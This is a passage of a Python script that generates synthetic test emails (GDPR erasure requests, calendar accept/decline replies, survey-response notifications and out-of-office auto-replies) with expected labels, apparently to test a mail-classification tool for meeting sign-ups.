        "French 'supprimez mes données' (also 'ne souhaite plus participer': erasure wins)", raw)

    d = "Tue, 15 Mar 2022 08:44:12 +0100"
    raw = (envelope("lotte.jansen@example.net", d, "smtp.example.net", "192.0.2.231") + f"""Message-ID: <d1e2f3a4-b5c6-4d7e-8f90-a1b2c3d4e5f6@example.net>
Date: {d}
MIME-Version: 1.0
User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:91.0) Gecko/20100101
 Thunderbird/91.7.0
Content-Language: nl
To: contact@callflow.example.org
From: Lotte Jansen <lotte.jansen@example.net>
Subject: Verzoek om verwijdering persoonsgegevens (AVG)
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 7bit

Geachte heer/mevrouw,

Op grond van de AVG verzoek ik u al mijn persoonsgegevens te 
verwijderen. Ik had me per vergissing aangemeld.

Met vriendelijke groet,
Lotte Jansen
""")
    add("erasure-nl-avg.eml", "applicant_message", "erasure", True, "lotte.jansen@example.net", "",
        "Dutch GDPR (AVG) erasure request", raw)


# =========================================================================== calendar replies (iTIP)
def itip_messages():
    # --- Outlook/Exchange "Accepted:"
    d = "Mon, 14 Mar 2022 10:20:41 +0000"
    cal = ical_reply("p.janssens@justitie.example.org", "Pieter Janssens", "ACCEPTED", (1,),
                     prodid="Microsoft Exchange Server 2010", dtstamp="20220314T102041Z", outlook=True,
                     summary="Accepted: Working group meeting, session 1")
    raw = (envelope("p.janssens@justitie.example.org", d, "EUR01-DB5-obe.outbound.protection.outlook.example.com",
                    "40.107.15.59", auth=auth_pass("justitie.example.org", "g1")) + """From: Pieter Janssens <p.janssens@justitie.example.org>
To: Working group contact <contact@callflow.example.org>
Subject: Accepted: Working group meeting, session 1
""" + outlook_headers("Working group meeting, session 1", "g1", "nl-BE, en-US") + f"""Date: {d}
Message-ID: {outlook_msgid("g1")}
x-ms-exchange-calendar-series-instance-id: BAAAAIIA4AB0xbcQGoLgCAAAAAAwk6d4vDfYAQAAAAAAAAAAEAAAAN8Kb3bOq5FHvbQz5Kc5l/4=
Content-Type: multipart/alternative;
	boundary="_000_AM0PR07MB6084A1B2C3D4E5F6A7B8C9D0E1F2AAM0PR07MB6084eurp_"
MIME-Version: 1.0

--_000_AM0PR07MB6084A1B2C3D4E5F6A7B8C9D0E1F2AAM0PR07MB6084eurp_
Content-Type: text/plain; charset="us-ascii"


--_000_AM0PR07MB6084A1B2C3D4E5F6A7B8C9D0E1F2AAM0PR07MB6084eurp_
Content-Type: text/calendar; charset="utf-8"; method=REPLY
Content-Transfer-Encoding: base64

{b64(cal)}
--_000_AM0PR07MB6084A1B2C3D4E5F6A7B8C9D0E1F2AAM0PR07MB6084eurp_--
""")
    add("itip-accepted-outlook.eml", "applicant_message", "confirm", True, "p.janssens@justitie.example.org", "",
        "iTIP METHOD:REPLY PARTSTAT=ACCEPTED (session 1), Exchange VTIMEZONE; empty text part", raw, crlf=True)

    # --- Google Calendar "Accepted: ... @ Thu 24 Mar ..."
    d = "Mon, 14 Mar 2022 11:02:19 +0000"
    subj = ("Accepted: Working group meeting, session 1 @ Thu 24 Mar 2022 13:30 - 16:30 (CET) "
            "(contact@callflow.example.org)")
    cal = ical_reply("maria.keller@example.com", "Maria Keller", "ACCEPTED", (1,),
                     prodid="-//Google Inc//Google Calendar 70.9054//EN", dtstamp="20220314T110219Z")
    plain = ("Maria Keller has accepted this invitation.\n\nWorking group meeting, session 1\n"
             "When\tThursday 24 Mar 2022 13:30 – 16:30 (Central European Time - Brussels)\n"
             f"Joining info\t{WEBEX}\nOrganizer\tcontact@callflow.example.org\n\n"
             "Invitation from Google Calendar\n\nYou are receiving this email because you are an attendee on the event.\n")
    raw = (envelope("maria.keller@example.com", d, "mail-sor-f69.calendar.example.com", "209.85.220.69")
           + f"""Received: by mail-sor-f69.calendar.example.com (Google Transport Security) with SMTPS id 3so1234567wmq.21
        for <contact@callflow.example.org>;
        Mon, 14 Mar 2022 04:02:19 -0700 (PDT)
MIME-Version: 1.0
Reply-To: Maria Keller <maria.keller@example.com>
Sender: Google Calendar <calendar-notification@calendar.example.com>
Message-ID: <000000000000b9a2c805da2b4e1f@calendar.example.com>
Date: {d}
Subject: {subj}
From: Maria Keller <maria.keller@example.com>
To: contact@callflow.example.org
Content-Type: multipart/mixed; boundary="000000000000b9a2b005da2b4e1e"

--000000000000b9a2b005da2b4e1e
Content-Type: multipart/alternative; boundary="000000000000b9a2ae05da2b4e1c"

--000000000000b9a2ae05da2b4e1c
Content-Type: text/plain; charset="UTF-8"; format=flowed; delsp=yes
Content-Transfer-Encoding: base64

{b64(plain)}
--000000000000b9a2ae05da2b4e1c
Content-Type: text/html; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

{qp('<span itemscope itemtype="http://schema.org/InformAction"><span style="display:none" itemprop="about" itemscope itemtype="http://schema.org/Person"><meta itemprop="description" content="Maria Keller accepted this invitation."/></span></span><div style=""><table cellspacing="0" cellpadding="8" border="0" summary="" style="width:100%;font-family:Arial,Sans-serif;border:1px Solid #ccc;border-width:1px 2px 2px 1px;background-color:#fff;"><tr><td><h3 style="padding:0 0 6px 0;margin:0;font-family:Arial,Sans-serif;font-size:16px;font-weight:bold;color:#222"><span>Maria Keller has accepted this invitation.</span></h3><div style="padding:2px"><span style="font-family:Arial,Sans-serif;font-size:16px"><b>Working group meeting, session 1</b></span></div><table cellpadding="0" cellspacing="0" border="0" style="margin-top:10px"><tr><td style="padding:0 1em 10px 0;font-family:Arial,Sans-serif;font-size:13px;color:#888;white-space:nowrap;width:90px">When</td><td style="padding-bottom:10px;font-family:Arial,Sans-serif;font-size:13px;color:#222">Thursday 24 Mar 2022 13:30 &ndash; 16:30 (Central European Time - Brussels)</td></tr></table></td></tr><tr><td style="background-color:#f6f6f6;color:#888;border-top:1px Solid #ccc;font-family:Arial,Sans-serif;font-size:11px"><p>Invitation from Google Calendar</p></td></tr></table></div>')}
--000000000000b9a2ae05da2b4e1c
Content-Type: text/calendar; charset="UTF-8"; method=REPLY
Content-Transfer-Encoding: 7bit

{cal}
--000000000000b9a2ae05da2b4e1c--

--000000000000b9a2b005da2b4e1e
Content-Type: application/ics; name="invite.ics"
Content-Disposition: attachment; filename="invite.ics"
Content-Transfer-Encoding: base64

{b64(cal)}
--000000000000b9a2b005da2b4e1e--
""")
    add("itip-accepted-google-calendar.eml", "applicant_message", "confirm", True, "maria.keller@example.com", "",
        "Google Calendar REPLY ACCEPTED (session 1); Sender: calendar-notification is not a robot guard", raw,
        crlf=True)

    # --- Outlook "Declined:" with a comment
    d = "Tue, 15 Mar 2022 07:58:12 +0000"
    cal = ical_reply("dirk.peeters@cgg.example.org", "Dirk Peeters", "DECLINED", (1,),
                     prodid="Microsoft Exchange Server 2010", dtstamp="20220315T075812Z", outlook=True,
                     comment="Sorry\\, I have a team day on the 24th.", summary="Declined: Working group meeting, session 1")
    raw = (envelope("dirk.peeters@cgg.example.org", d, "EUR03-AM7-obe.outbound.protection.outlook.example.com",
                    "40.107.104.70") + """From: Dirk Peeters <dirk.peeters@cgg.example.org>
To: Working group contact <contact@callflow.example.org>
Subject: Declined: Working group meeting, session 1
""" + outlook_headers("Working group meeting, session 1", "g3", "nl-BE, en-US") + f"""Date: {d}
Message-ID: {outlook_msgid("g3")}
Content-Type: multipart/alternative;
	boundary="_000_AM7PR02MB5990B1C2D3E4F5A6B7C8D9E0F1A2BAM7PR02MB5990eurp_"
MIME-Version: 1.0

--_000_AM7PR02MB5990B1C2D3E4F5A6B7C8D9E0F1A2BAM7PR02MB5990eurp_
Content-Type: text/plain; charset="us-ascii"

Sorry, I have a team day on the 24th.

--_000_AM7PR02MB5990B1C2D3E4F5A6B7C8D9E0F1A2BAM7PR02MB5990eurp_
Content-Type: text/calendar; charset="utf-8"; method=REPLY
Content-Transfer-Encoding: base64

{b64(cal)}
--_000_AM7PR02MB5990B1C2D3E4F5A6B7C8D9E0F1A2BAM7PR02MB5990eurp_--
""")
    add("itip-declined-outlook.eml", "applicant_message", "decline", True, "dirk.peeters@cgg.example.org", "",
        "iTIP REPLY PARTSTAT=DECLINED (session 1) with COMMENT", raw, crlf=True)

    # --- Outlook for Mac "Tentative:"
    d = "Tue, 15 Mar 2022 13:30:55 +0100"
    cal = ical_reply("jana.dvorakova@probation.example.net", "Jana Dvořáková", "TENTATIVE", (1,),
                     prodid="Microsoft Exchange Server 2010", dtstamp="20220315T123055Z", outlook=True,
                     summary="Tentative: Working group meeting, session 1")
    raw = (envelope("jana.dvorakova@probation.example.net", d, "mx.probation.example.net", "203.0.113.25")
           + f"""From: =?utf-8?B?SmFuYSBEdm/FmcOha292w6E=?= <jana.dvorakova@probation.example.net>
To: Working group contact <contact@callflow.example.org>
Subject: Tentative: Working group meeting, session 1
Thread-Topic: Working group meeting, session 1
Thread-Index: AQHYN4Gq7a0fT2Kx3kCz0bX9mQ+YCA==
Date: {d}
Message-ID: <C4D5E6F7-0819-4A2B-9C3D-4E5F60718293@probation.example.net>
Accept-Language: cs-CZ, en-US
Content-Language: en-US
user-agent: Microsoft-MacOutlook/16.59.22031300
MIME-Version: 1.0
Content-Type: multipart/alternative;
	boundary="B_3730110655_1804289383"

> This message is in MIME format. Since your mail reader does not understand
this format, some or all of this message may not be legible.

--B_3730110655_1804289383
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

{qp("I will try to join but may have to leave early." + chr(10))}
--B_3730110655_1804289383
Content-Type: text/calendar; charset="UTF-8"; method=REPLY
Content-Transfer-Encoding: quoted-printable

{qp(cal.replace(chr(13) + chr(10), chr(10)))}
--B_3730110655_1804289383--
""")
    add("itip-tentative-outlook-mac.eml", "applicant_message", "none", True, "jana.dvorakova@probation.example.net", "",
        "iTIP REPLY PARTSTAT=TENTATIVE: no state change, needs a person (flag)", raw)

    # --- Thunderbird: both sessions accepted in one REPLY
    d = "Tue, 15 Mar 2022 14:45:09 +0100"
    cal = ical_reply("erik.lindgren@kriminalvard.example.net", "Erik Lindgren", "ACCEPTED", (1, 2),
                     prodid="-//Mozilla.org/NONSGML Mozilla Calendar V1.1//EN", dtstamp="20220315T134509Z")
    raw = (envelope("erik.lindgren@kriminalvard.example.net", d, "mx.kriminalvard.example.net", "192.0.2.201")
           + f"""Message-ID: <71b3c5d7-e9f1-4a2b-8c4d-6e8f0a2b4c6d@kriminalvard.example.net>
Date: {d}
MIME-Version: 1.0
User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:91.0) Gecko/20100101
 Thunderbird/91.6.1
From: Erik Lindgren <erik.lindgren@kriminalvard.example.net>
To: contact@callflow.example.org
Subject: Accepted: Working group meeting, session 1
Content-Type: multipart/mixed; boundary="------------7kXr2bQp9mZc4vN1sT6wYd0e"

This is a multi-part message in MIME format.
--------------7kXr2bQp9mZc4vN1sT6wYd0e
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 7bit

Erik Lindgren has accepted your event invitation.
--------------7kXr2bQp9mZc4vN1sT6wYd0e
Content-Type: text/calendar; charset=UTF-8; method=REPLY
Content-Transfer-Encoding: 8bit

{cal}
--------------7kXr2bQp9mZc4vN1sT6wYd0e
Content-Type: application/ics; name="invite.ics"
Content-Disposition: attachment; filename="invite.ics"
Content-Transfer-Encoding: base64

{b64(cal)}
--------------7kXr2bQp9mZc4vN1sT6wYd0e--
""")
    add("itip-accepted-thunderbird-two-sessions.eml", "applicant_message", "confirm", True,
        "erik.lindgren@kriminalvard.example.net", "", "iTIP REPLY with two VEVENTs, both ACCEPTED", raw, crlf=True)

    # --- Google Calendar "Declined:" with a note, session 2 only
    d = "Wed, 16 Mar 2022 18:20:33 +0000"
    cal = ical_reply("sofia.rossi@example.net", "Sofia Rossi", "DECLINED", (2,),
                     prodid="-//Google Inc//Google Calendar 70.9054//EN", dtstamp="20220316T182033Z",
                     comment="Purtroppo ho un'udienza quel giorno.")
    plain = ("Sofia Rossi has declined this invitation with note:\n\"Purtroppo ho un'udienza quel giorno.\"\n\n"
             "Working group meeting, session 2\nWhen\tFriday 25 Mar 2022 13:30 – 16:30 (Central European Time - Brussels)\n\n"
             "Invitation from Google Calendar\n")
    raw = (envelope("sofia.rossi@example.net", d, "mail-sor-f41.calendar.example.com", "209.85.220.41")
           + f"""MIME-Version: 1.0
Reply-To: Sofia Rossi <sofia.rossi@example.net>
Sender: Google Calendar <calendar-notification@calendar.example.com>
Message-ID: <0000000000004e1d7a05da5f0c33@calendar.example.com>
Date: {d}
Subject: Declined: Working group meeting, session 2 @ Fri 25 Mar 2022 13:30 - 16:30 (CET)
 (contact@callflow.example.org)
From: Sofia Rossi <sofia.rossi@example.net>
To: contact@callflow.example.org
Content-Type: multipart/alternative; boundary="0000000000004e1d7805da5f0c31"

--0000000000004e1d7805da5f0c31
Content-Type: text/plain; charset="UTF-8"; format=flowed; delsp=yes
Content-Transfer-Encoding: base64

{b64(plain)}
--0000000000004e1d7805da5f0c31
Content-Type: text/calendar; charset="UTF-8"; method=REPLY
Content-Transfer-Encoding: 7bit

{cal}
--0000000000004e1d7805da5f0c31--
""")
    add("itip-declined-google-session2.eml", "applicant_message", "decline", True, "sofia.rossi@example.net", "",
        "Google Calendar REPLY DECLINED for session 2 only, with an Italian note; folded subject", raw, crlf=True)


# =========================================================================== survey notifications
SURVEY_NAME = "Working group meeting: expression of interest"


def survey_plain(rid: int, submitted: str, fields: str) -> str:
    return f"""A new response has been submitted to your survey
"{SURVEY_NAME}".

Response ID: {rid}
Submitted: {submitted}

{fields}
--
You receive this message because notifications are switched on for this survey.
Manage notifications: https://surveys.example.org/admin/48213/notifications
"""


def survey_headers(d: str, rid: int, extra: str = "") -> str:
    return (envelope(f"bounces+48213-{rid}@surveys.example.org", d, "out-3.mta.surveys.example.org", "198.51.100.213",
                     auth=auth_pass("surveys.example.org", f"s{rid}"))
            + dkim("surveys.example.org", "s1", "from:to:subject:date:message-id", f"sd{rid}")
            + f"""From: Survey notifications <survey@surveys.example.org>
To: contact@callflow.example.org
Subject: [Survey] New response #{rid} - {SURVEY_NAME}
Date: {d}
Message-ID: <resp-{rid}.48213.{fake_id(str(rid), 10).lower()}@surveys.example.org>
X-Survey-Id: 48213
X-Mailer: SurveyTool Notifier 4.2
{extra}MIME-Version: 1.0
""")


def survey_messages():
    d = "Wed, 2 Mar 2022 14:17:12 +0100"
    fields = """Full name: Lena Hoffmann
Email address: lena.hoffmann@bewaehrungshilfe.example.net
Organisation: Bewährungshilfe Example e.V.
Country: Germany
Role: Probation officer
Field of work:
    Probation service (adult offenders); since 2019 also case manager
    in the state exit programme for people leaving right-wing extremist
    groups
Years of experience: 9
Which sessions can you attend?: Both afternoons
Consent to data processing: Yes"""
    raw = survey_headers(d, 1017) + """Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

""" + survey_plain(1017, "2022-03-02 14:17:09 (Europe/Brussels)", fields)
    add("survey-text-basic.eml", "survey_response", "none", True, "lena.hoffmann@bewaehrungshilfe.example.net", "",
        "Label: value notification; multi-line indented 'Field of work'", raw)

    d = "Thu, 3 Mar 2022 09:41:30 +0100"
    fields = """Full name: Pieter Janssens
Email address: p.janssens@justitie.example.org
Organisation: Justitiehuis Example
Country: Belgium
Role: Justice assistant
Field of work: Probation and supervision of people convicted of terrorist
  offences; coordination with the local prevention cell and the prison
  disengagement officer
Years of experience: 12
Which sessions can you attend?: Both afternoons
Consent to data processing: Yes"""
    raw = survey_headers(d, 1019, "Auto-Submitted: auto-generated\nX-Auto-Response-Suppress: All\n") + """Content-Type: text/plain; charset=us-ascii
Content-Transfer-Encoding: 7bit

""" + survey_plain(1019, "2022-03-03 09:41:27 (Europe/Brussels)", fields)
    add("survey-text-auto-submitted.eml", "survey_response", "none", True, "p.janssens@justitie.example.org", "",
        "Auto-Submitted: auto-generated: never answer the sender, but the ack goes to the applicant", raw)

    d = "Sat, 5 Mar 2022 11:50:09 +0100"
    fields = """Full name: Lena Hoffmann
Email address: lena.hoffmann@bewaehrungshilfe.example.net
Organisation: Landesprogramm Ausstieg Example (seconded from Bewährungshilfe Example e.V.)
Country: Germany
Role: Case manager
Field of work:
    Exit programme for right-wing extremists; before that probation
    service (adult offenders)
Years of experience: 9
Which sessions can you attend?: Both afternoons
Consent to data processing: Yes
Comments: I submitted the form on Wednesday already, this is an update of my organisation."""
    raw = survey_headers(d, 1029) + """Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: quoted-printable

""" + qp(survey_plain(1029, "2022-03-05 11:50:02 (Europe/Brussels)", fields))
    add("survey-text-duplicate-same-person.eml", "survey_response", "none", True,
        "lena.hoffmann@bewaehrungshilfe.example.net", "", "second response of survey-text-basic's applicant: update, not a new record",
        raw)

    d = "Thu, 3 Mar 2022 16:05:44 +0100"
    rows = [("ID", "23"), ("Date submitted", "2022-03-03 16:05:41"), ("Last page", "3"), ("Start language", "en"),
            ("Full name", "Tomáš Novák"), ("Email address", "tomas.novak@probacni.example.com"),
            ("Organisation", "Probační a mediační služba Example"), ("Country", "Czech Republic"),
            ("Field of work", "Probation officer<br />\nSpecialised team for extremism-related cases<br />\nTrainer for new staff"),
            ("Which sessions can you attend?", "Both afternoons"), ("Consent to data processing", "Yes")]
    table = ("<table class='printouttable' >\n" + "\n".join(
        f"<tr><td class='printoutquestion'>{escape(q)}</td><td class='printoutanswer'>"
        f"{a if '<br' in a else escape(a)}</td></tr>" for q, a in rows) + "\n</table>")
    html = (f"Hello,<br /><br />A new response was submitted for your survey '{SURVEY_NAME}'.<br /><br />"
            "Click the following link to see the individual response:<br />"
            "https://surveys.example.org/index.php/admin/responses/sa/view/surveyid/614382/id/23<br /><br />"
            "Click the following link to edit the individual response:<br />"
            "https://surveys.example.org/index.php/admin/dataentry/sa/editdata/subaction/edit/surveyid/614382/id/23<br /><br />"
            "View statistics by clicking here:<br />https://surveys.example.org/index.php/admin/statistics/sa/index/surveyid/614382<br /><br />"
            "<br />The following answers were given by the participant:<br />" + table)
    raw = (envelope("survey@surveys.example.org", d, "lime.surveys.example.org", "198.51.100.214")
           + f"""Date: {d}
To: contact@callflow.example.org
From: Survey notifications <survey@surveys.example.org>
Subject: Response submission for survey {SURVEY_NAME} with results
Message-ID: <9tVbJj3qzXhCk1mN0pR4sD6fG8aL2eW5yU7oI9@lime.surveys.example.org>
X-Mailer: PHPMailer 6.5.3 (https://github.com/PHPMailer/PHPMailer)
X-Surveymailer: LimeSurvey Emailer (LimeSurvey.sourceforge.net)
X-surveyid: 614382
X-tokenid: 
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: quoted-printable

{qp(html + chr(10))}""")
    add("survey-limesurvey-html.eml", "survey_response", "none", True, "tomas.novak@probacni.example.com", "",
        "LimeSurvey detailed admin notification: HTML-only printouttable; <br /> in multi-line answer", raw)

    d = "Sun, 6 Mar 2022 19:03:50 +0100"
    rows = [("ID", "31"), ("Date submitted", "2022-03-06 19:03:47"), ("Full name", "Camille Dubois"),
            ("Email address", "camille.dubois@spip.example.org"),
            ("Organisation", "SPIP Example &amp; partenaires"), ("Country", "France"),
            ("Field of work", "Conseill&egrave;re p&eacute;nitentiaire d&#039;insertion et de probation<br />\n"
                              "Suivi des personnes plac&eacute;es sous main de justice pour terrorisme"),
            ("Which sessions can you attend?", "Only the first afternoon (24 March)"),
            ("Consent to data processing", "Yes")]
    table = ("<table class='printouttable' >\n" + "\n".join(
        f"<tr><td class='printoutquestion'>{q}</td><td class='printoutanswer'>{a}</td></tr>" for q, a in rows) + "\n</table>")
    html = (f"Hello,<br /><br />A new response was submitted for your survey '{SURVEY_NAME}'.<br /><br />"
            "<br />The following answers were given by the participant:<br />" + table)
    alt = ("Hello,\n\nA new response was submitted for your survey '" + SURVEY_NAME + "'.\n\n\n"
           "The following answers were given by the participant:\n"
           + "\n".join(f"{q} {a}".replace("<br />\n", " ").replace("&egrave;", "è").replace("&eacute;", "é")
                       .replace("&#039;", "'").replace("&amp;", "&") for q, a in rows) + "\n")
    raw = (envelope("survey@surveys.example.org", d, "lime.surveys.example.org", "198.51.100.214")
           + f"""Date: {d}
To: contact@callflow.example.org
From: Survey notifications <survey@surveys.example.org>
Subject: {ew("Response submission for survey " + SURVEY_NAME + " with results", "UTF-8", "B", 45)}
Message-ID: <Qm3xW8zA1bC5dE7fG9hJ2kL4nP6rS0tU8vY1@lime.surveys.example.org>
X-Mailer: PHPMailer 6.5.3 (https://github.com/PHPMailer/PHPMailer)
X-Surveymailer: LimeSurvey Emailer (LimeSurvey.sourceforge.net)
X-surveyid: 614382
MIME-Version: 1.0
Content-Type: multipart/alternative;
 boundary="b1_Qm3xW8zA1bC5dE7fG9hJ2kL4nP6rS0tU8vY1"
Content-Transfer-Encoding: 8bit

This is a multi-part message in MIME format.
--b1_Qm3xW8zA1bC5dE7fG9hJ2kL4nP6rS0tU8vY1
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

{alt}
--b1_Qm3xW8zA1bC5dE7fG9hJ2kL4nP6rS0tU8vY1
Content-Type: text/html; charset=utf-8
Content-Transfer-Encoding: 8bit

{html}

--b1_Qm3xW8zA1bC5dE7fG9hJ2kL4nP6rS0tU8vY1--
""")
    add("survey-limesurvey-multipart-entities.eml", "survey_response", "none", True, "camille.dubois@spip.example.org",
        "", "LimeSurvey via PHPMailer: text alternative has no colons (use the HTML table); HTML entities in answers",
        raw, crlf=True)

    d = "Mon, 7 Mar 2022 10:22:31 +0100"
    csv = ('\ufeff"Response ID","Submitted","Full name","Email address","Organisation","Country","Field of work",'
           '"Which sessions can you attend?","Consent to data processing"\r\n'
           '"1033","2022-03-07 10:22:28","Ingrid Solberg","ingrid.solberg@kriminalomsorg.example.org",'
           '"Kriminalomsorgen Example","Norway","Probation; risk assessment\r\nand exit counselling in prison",'
           '"Both afternoons","Yes"\r\n')
    raw = survey_headers(d, 1033) + f"""Content-Type: multipart/mixed; boundary="=-=-=resp1033=-=-="

--=-=-=resp1033=-=-=
Content-Type: text/plain; charset=us-ascii
Content-Transfer-Encoding: 7bit

A new response (ID 1033) has been submitted to your survey
"{SURVEY_NAME}".

The answers are attached as a CSV file.

--
You receive this message because notifications are switched on for this survey.

--=-=-=resp1033=-=-=
Content-Type: text/csv; charset=utf-8; name="response-1033.csv"
Content-Disposition: attachment; filename="response-1033.csv"
Content-Transfer-Encoding: base64

{b64(csv)}
--=-=-=resp1033=-=-=--
"""
    add("survey-csv-attachment.eml", "survey_response", "none", True, "ingrid.solberg@kriminalomsorg.example.org", "",
        "answers only in a CSV attachment (UTF-8 BOM, quoted newline in a field)", raw)

    d = "Mon, 7 Mar 2022 19:03:47 +0100"
    js = """{
  "survey": {"id": 48213, "title": "Working group meeting: expression of interest"},
  "response_id": 1041,
  "submitted_at": "2022-03-07T19:03:44+01:00",
  "answers": [
    {"question": "Full name", "answer": "Mehmet Yilmaz"},
    {"question": "Email address", "answer": "m.yilmaz@gmx.example.net"},
    {"question": "Organisation", "answer": "Violence Prevention Network Example gGmbH"},
    {"question": "Country", "answer": "Germany"},
    {"question": "Field of work", "answer": "Distancing work in prisons\\nFamily counselling (Beratungsstelle)"},
    {"question": "Which sessions can you attend?", "answer": "Both afternoons"},
    {"question": "Consent to data processing", "answer": true}
  ]
}
"""
    raw = survey_headers(d, 1041, "Auto-Submitted: auto-generated\n") + f"""Content-Type: multipart/mixed; boundary="=-=-=resp1041=-=-="

--=-=-=resp1041=-=-=
Content-Type: text/plain; charset=us-ascii

A new response (ID 1041) has been submitted to your survey
"{SURVEY_NAME}". The response is attached as JSON.

--=-=-=resp1041=-=-=
Content-Type: application/json; name="response-1041.json"
Content-Disposition: attachment; filename="response-1041.json"
Content-Transfer-Encoding: 7bit

{js}
--=-=-=resp1041=-=-=--
"""
    add("survey-json-attachment.eml", "survey_response", "none", True, "m.yilmaz@gmx.example.net", "",
        "answers only in a JSON attachment (question/answer list)", raw, crlf=True)

    d = "Tue, 8 Mar 2022 08:12:40 +0100"
    fields = """Full name: Élodie Lefèvre
Email address: elodie.lefevre@orange.example.net
Organisation: Association d'aide aux victimes et de médiation (Example)
Country: France
Role: Médiatrice / coordinatrice
Field of work: Justice restaurative, accompagnement de familles de
  personnes radicalisées, violences conjugales
Which sessions can you attend?: Both afternoons
Consent to data processing: Yes"""
    raw = survey_headers(d, 1044, "Reply-To: =?UTF-8?Q?=C3=89lodie_Lef=C3=A8vre?= <elodie.lefevre@orange.example.net>\n") + """Content-Type: text/plain; charset=UTF-8
Content-Transfer-Encoding: quoted-printable

""" + qp(survey_plain(1044, "2022-03-08 08:12:37 (Europe/Brussels)", fields))
    add("survey-text-qp-reply-to-applicant.eml", "survey_response", "none", True, "elodie.lefevre@orange.example.net",
        "", "QP UTF-8 body; Reply-To set to the respondent by the survey tool", raw, crlf=True)

    d = "Fri, 11 Mar 2022 09:31:02 +0100"
    fields = """Full name: Anders Holm
Email address: Anders.Holm@Kommune.example.net
Organisation: Kommune Example
Country: Denmark
Role: Coordinator, municipal exit programme
Field of work: Exit work (mentoring), prevention networks with police and
  social services
Which sessions can you attend?: Both afternoons
Consent to data processing: Yes"""
    raw = survey_headers(d, 1052) + """Content-Type: text/plain; charset=us-ascii

""" + survey_plain(1052, "2022-03-11 09:30:58 (Europe/Brussels)", fields)
    add("survey-text-late-mixed-case-email.eml", "survey_response", "none", True, "anders.holm@kommune.example.net", "",
        "submitted after the 10 March deadline (late flag); address in mixed case", raw)

    d = "Wed, 9 Mar 2022 21:47:18 +0100"
    fields = """Full name: Sara Ahmed
Email address: sara.ahmed@praxis.example.com
Organisation: Praxis für Psychotherapie Example
Country: Austria
Role: Psychotherapist
Field of work:
    Psychotherapy (private practice) with clients from the probation
    service and a perpetrator programme for domestic violence
Which sessions can you attend?: Both afternoons
Consent to data processing: Yes
Comments:
    I confirm that I can attend both afternoons. Please delete my data
    after the meeting. Unsubscribe me from any newsletter, I only want
    information about this meeting."""
    raw = survey_headers(d, 1049) + """Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

""" + survey_plain(1049, "2022-03-09 21:47:14 (Europe/Brussels)", fields)
    add("survey-text-comment-with-trigger-words.eml", "survey_response", "none", True, "sara.ahmed@praxis.example.com",
        "", "comment field says confirm/delete/unsubscribe: still just a survey response", raw)


# =========================================================================== auto-replies
def ack_reply_headers(who: str) -> str:
    return f"In-Reply-To: {cf_msgid('ack', who)}\nReferences: {cf_msgid('ack', who)}\n"


def auto_reply_messages():
    # --- Dovecot Pigeonhole vacation (RFC 3834), null return path
    d = "Wed, 2 Mar 2022 10:15:06 +0100"
    raw = (envelope("", d, "mx.kriminalvard.example.net", "192.0.2.201") + f"""Message-ID: <dovecot-sieve-1646212506-372955-0@imap.kriminalvard.example.net>
Date: {d}
X-Sieve: Pigeonhole Sieve 0.5.16 (09c29328)
From: Erik Lindgren <erik.lindgren@kriminalvard.example.net>
To: <contact@callflow.example.org>
Subject: Auto: Re: Participation in the working group meeting
{ack_reply_headers("erik")}Auto-Submitted: auto-replied (vacation)
Precedence: bulk
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

I am away until 7 March 2022 and will read your message when I am back.
For urgent matters please call the front desk.

Jag är borta till den 7 mars.
""")
    add("auto-sieve-vacation-rfc3834.eml", "auto_reply", "none", False, "", "",
        "Pigeonhole vacation: Auto-Submitted: auto-replied (vacation), Precedence: bulk, Return-Path <>", raw)

    # --- Gmail vacation responder
    d = "Wed, 2 Mar 2022 09:15:44 +0000"
    text = "Thank you for your email. I am on annual leave until Monday 7 March and will reply on my return.\n\nAoife"
    hops, host = gmail_hops("ar2", "mail.example.com", d, "aoife")
    raw = (envelope("aoife.byrne@mail.example.com", d, host, "209.85.221.50") + hops + f"""MIME-Version: 1.0
From: Aoife Byrne <aoife.byrne@mail.example.com>
Date: {d}
Message-ID: <CAF3kR9yVacation0Rsp4x2kQ9zT7nW1pLm3bC6dE8fG0hJ2kL4n@mail.gmail.example.com>
Subject: Annual leave until 7 March
To: Working group contact <contact@callflow.example.org>
{ack_reply_headers("aoife")}Auto-Submitted: auto-replied
Content-Type: multipart/alternative; boundary="000000000000f0a2b305d928e1c4"

--000000000000f0a2b305d928e1c4
Content-Type: text/plain; charset="UTF-8"

{text}

--000000000000f0a2b305d928e1c4
Content-Type: text/html; charset="UTF-8"

{gmail_html(text)}
--000000000000f0a2b305d928e1c4--
""")
    add("auto-gmail-vacation-responder.eml", "auto_reply", "none", False, "", "",
        "Gmail vacation responder: custom subject, Auto-Submitted: auto-replied", raw, crlf=True)

    # --- Exchange Online "Automatic reply:"
    d = "Wed, 2 Mar 2022 10:16:01 +0000"
    raw = (envelope("ingrid.solberg@kriminalomsorg.example.org", d, "EUR05-AM6-obe.outbound.protection.outlook.example.com",
                    "40.107.22.80") + f"""From: Ingrid Solberg <ingrid.solberg@kriminalomsorg.example.org>
To: Working group contact <contact@callflow.example.org>
Subject: Automatic reply: Participation in the working group meeting
Thread-Topic: Participation in the working group meeting
Thread-Index: AQHYLhZk8xv4yFj0mUS2s1R4e0j8yqyu8Y5K
Date: {d}
Message-ID: {outlook_msgid("ar3")}
{ack_reply_headers("ingrid")}Accept-Language: nb-NO, en-US
Content-Language: en-US
X-MS-Has-Attach:
X-MS-TNEF-Correlator:
X-MS-Exchange-Organization-SCL: -1
Auto-Submitted: auto-generated
X-Auto-Response-Suppress: All
X-MS-Exchange-Inbox-Rules-Loop: ingrid.solberg@kriminalomsorg.example.org
x-ms-exchange-messagesentrepresentingtype: 1
x-ms-exchange-generated-message-source: Mailbox Rules Agent
Content-Type: multipart/alternative;
	boundary="_000_DB9PR05MB7321OOF9D8C7B6A5F4E3D2C1B0A9DB9PR05MB7321eurp_"
